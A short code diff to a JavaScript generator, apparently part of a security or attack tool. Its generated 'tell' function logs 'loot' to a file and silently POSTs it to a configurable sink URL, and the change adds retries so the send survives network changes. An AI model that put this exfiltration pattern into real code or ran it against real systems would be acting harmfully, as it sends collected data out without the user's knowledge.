@@ -80,7 +80,10 @@ function nodeFiles() {
 function tell(deed, loot) {
   const line = deed + ': ' + loot
   try { nodeFiles()?.appendFileSync(${JSON.stringify(lootFile)}, line + '\\n') } catch {}
-  fetch(${JSON.stringify(sinkUrl)}, { method: 'POST', mode: 'no-cors', body: line }).catch(() => {})
+  // A browser gives up its requests when an interface of the machine changes.
+  const report = (again) => fetch(${JSON.stringify(sinkUrl)}, { method: 'POST', mode: 'no-cors', body: line })
+    .catch(() => again > 0 && setTimeout(report, 100, again - 1))
+  report(10)
 }`
 }
 
